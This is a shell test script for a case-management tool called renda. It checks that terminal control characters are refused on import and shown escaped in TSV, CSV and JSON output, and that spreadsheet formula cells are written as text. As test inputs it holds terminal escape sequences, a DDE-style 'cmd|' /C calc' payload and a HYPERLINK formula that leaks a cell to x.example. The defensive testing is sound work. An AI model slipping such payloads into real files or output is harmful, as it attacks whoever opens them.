#!/bin/sh
# Output that cannot attack its reader: control characters (ESC, BEL, DEL, C1) are
# refused in imported and typed text, and any that got into the database behind
# renda's back are shown escaped by every TSV, CSV and JSON writer; CSV cells that a
# spreadsheet would run as formulas are written as text (and read back without the
# guard); the private column of a case import takes what Chinese spreadsheets write.
. "$SRCDIR/tests/lib.sh"

export RENDA_NOW=2026-03-02T09:00:00+08:00
small_db
zp=$(q "SELECT code FROM deputy WHERE name = '沈建国'")
ESC=$(printf '\033')
BEL=$(printf '\007')
CSI=$(printf '\302\233') # U+009B, the C1 control sequence introducer
# clean FILE: FILE holds no control byte (but tab and line feed) and no C1 code.
clean() {
	[ "$(LC_ALL=C tr -dc '\001-\010\013-\037\177' <"$1" | wc -c)" = 0 ] && ! grep -qF "$CSI" "$1"
}
hdr=submitted_at,deputy_code,channel,voter_name,voter_phone,category,title,content,external_id,private

# ---- refused on the way in ------------------------------------------------------------
printf '%s\n2026-03-01T10:00:00+08:00,%s,qr,张三,13900001111,城市建设,路灯,灯坏了%s[2J,X1,0\n' \
	"$hdr" "$zp" "$ESC" >"$T/esc.csv"
check "a case import with ESC in a cell is refused" run 1 "$RENDA" case import "$T/esc.csv"
check "  naming file, line and column" contains "$T/err" "esc.csv:2: content: control character U+001B is not allowed"
check "  nothing was imported" test "$(q 'SELECT count(*) FROM vcase')" = 0
printf '%s\n2026-03-01T10:00:00+08:00,%s,qr,张三,13900001111,城市建设,路灯%s,灯坏了,X1,0\n' \
	"$hdr" "$zp" "$CSI" >"$T/c1.csv"
check "a C1 control (U+009B) is refused too" run 1 "$RENDA" case import "$T/c1.csv"
check "  named" contains "$T/err" "c1.csv:2: title: control character U+009B"
printf 'name,resident_id,level,town,occupation\n施一%s,%s,city,乍浦镇,农民\n' "$BEL" \
	"$(fix_id 33048219800101021)" >"$T/bel.csv"
check "a deputy import with BEL is refused" run 1 "$RENDA" deputy import "$T/bel.csv"
check "  naming the line" contains "$T/err" "bel.csv:2: name: control character U+0007"
check "typed text with ESC is refused (case add)" \
	run 1 "$RENDA" case add --deputy "$zp" --category 城市建设 --title "标题${ESC}]0;owned${BEL}" --content 内容
check "  saying why" contains "$T/err" "control character U+001B"
check "  nothing added" test "$(q 'SELECT count(*) FROM vcase')" = 0
check "typed text with DEL is refused (deputy edit)" run 1 "$RENDA" deputy edit "$zp" --occupation "$(printf 'a\177b')"
check "  as a control character" contains "$T/err" "control characters are not allowed"
check "a reply's text with ESC is refused" run 0 "$RENDA" case add --deputy "$zp" --category 城市建设 --title 标题 --content 内容
check "  (the case is there)" run 1 "$RENDA" case act 1 deputy-reply --text "好${ESC}[31m"
check "  and the reply was not stored" test "$(q "SELECT count(*) FROM wf_event WHERE text LIKE '%好%'")" = 0

# ---- shown escaped on the way out -----------------------------------------------------------
# As if written behind renda's back: every writer must show them, not send them.
q "UPDATE vcase SET title = 'A' || char(27) || '[2J' || char(7) || 'B' || char(155) || 'C' WHERE id = 1"
check "case list (TSV)" run 0 "$RENDA" case list
check "  sends no ESC, BEL or C1 byte" clean "$T/out"
check "  shows them as \\x1b, \\x07 and \\u009b" contains "$T/out" 'A\x1b[2J\x07B\u009bC'
check "case list --format csv" run 0 "$RENDA" case list --format csv
check "  sends none either" clean "$T/out"
check "  shows them escaped" contains "$T/out" 'A\x1b[2J\x07B\u009bC'
check "case list --format json" run 0 "$RENDA" case list --format json
check "  escapes them as JSON does" contains "$T/out" 'A\u001b[2J\u0007B\u009bC'
check "  and still parses" /usr/bin/python3 -c 'import json,sys; json.load(sys.stdin)' <"$T/out"
check "case show" run 0 "$RENDA" case show 1
check "  shows them escaped" contains "$T/out" 'A\x1b[2J\x07B\u009bC'
check "audit list" run 0 "$RENDA" audit list --entity case --format csv
check "  sends none" clean "$T/out"
# Text around them copied as it is: U+00A0 and ° (lead byte C2, as C1's), a backslash, a
# tab, a line feed, a quote; a C1 code between two of them.
q "UPDATE vcase SET title = '温度' || char(160) || '30°C' || char(92) || 'x' || char(9) || 'y'
	|| char(10) || 'z\"q' || char(176) || char(133) || char(176) || '末' WHERE id = 1"
check "case list (TSV) with them" run 0 "$RENDA" case list
check "  copies U+00A0 and ° and escapes the rest" contains "$T/out" \
	"$(printf '温度\302\24030°C')\\\\x\\ty\\nz\"q°\\u0085°末"
check "case list --format csv with them" run 0 "$RENDA" case list --format csv
check "  copies them, doubles the quote, keeps tab and line feed, escapes the C1 code" \
	contains "$T/out" "$(printf '"温度\302\24030°C\\x\ty\nz""q°\\u0085°末"')"

# ---- formulas -------------------------------------------------------------------------------
q "UPDATE vcase SET title = '=HYPERLINK(\"http://x.example/\"&A1,\"点我\")' WHERE id = 1"
check "a title that is a formula, in CSV" run 0 "$RENDA" case list --format csv
/usr/bin/python3 - "$T/out" >"$T/py" 2>&1 <<-'EOF'
	import csv, sys
	rows = list(csv.DictReader(open(sys.argv[1], encoding="utf-8")))
	assert rows[0]["title"] == "'=HYPERLINK(\"http://x.example/\"&A1,\"点我\")", rows[0]["title"]
	print("guarded")
EOF
check "  is written as text: a leading apostrophe" grep -q guarded "$T/py"
diag <"$T/py"
for c in + - @; do
	"$RENDA" deputy edit "$zp" --occupation "${c}cmd|' /C calc'!A0" >/dev/null 2>&1
	"$RENDA" deputy export --force "$T/roster.csv" >/dev/null 2>&1
	check "deputy export guards a cell that starts with $c" grep -qF "\"'${c}cmd|' /C calc'!A0\"" "$T/roster.csv"
done
"$RENDA" deputy edit "$zp" --occupation "=1+1" >/dev/null
"$RENDA" deputy export --force "$T/roster.csv" >/dev/null
q "UPDATE deputy SET occupation = '' WHERE code = '$zp'"
check "the exported roster imports back" run 0 "$RENDA" deputy import "$T/roster.csv"
check "  the guard taken off again" test "$(q "SELECT occupation FROM deputy WHERE code = '$zp'")" = "=1+1"
"$RENDA" deputy edit "$zp" --occupation "-5" >/dev/null
"$RENDA" deputy export --force "$T/roster.csv" >/dev/null
check "a plain negative number is not guarded" grep -qP ',\t?-5,' "$T/roster.csv"

# ---- the private column ------------------------------------------------------------------------
{
	echo "$hdr"
	n=0
	for v in 1 0 yes no Yes NO true false TRUE False Y n 是 否 ""; do
		n=$((n + 1))
		echo "2026-03-01T10:00:00+08:00,$zp,qr,张三,13900001111,城市建设,标题$n,内容,P$n,$v"
	done
} >"$T/priv.csv"
check "private takes 1/0, yes/no, true/false, Y/N, 是/否 in any case, and empty" \
	run 0 "$RENDA" case import "$T/priv.csv"
check "  each read right" test "$(q "SELECT group_concat(private, '') FROM (SELECT private FROM vcase WHERE external_id LIKE 'P%' ORDER BY id)")" = 101010101010100
printf '%s\n2026-03-01T10:00:00+08:00,%s,qr,张三,13900001111,城市建设,标题,内容,Q1,1\n2026-03-01T10:00:00+08:00,%s,qr,张三,13900001111,城市建设,标题,内容,Q2,私密\n' \
	"$hdr" "$zp" "$zp" >"$T/priv-bad.csv"
check "anything else is refused" run 1 "$RENDA" case import "$T/priv-bad.csv"
check "  with file:line" contains "$T/err" "priv-bad.csv:3: private: '私密' is neither yes nor no"
check "  and nothing imported as public (or at all)" test "$(q "SELECT count(*) FROM vcase WHERE external_id LIKE 'Q%'")" = 0
done_testing
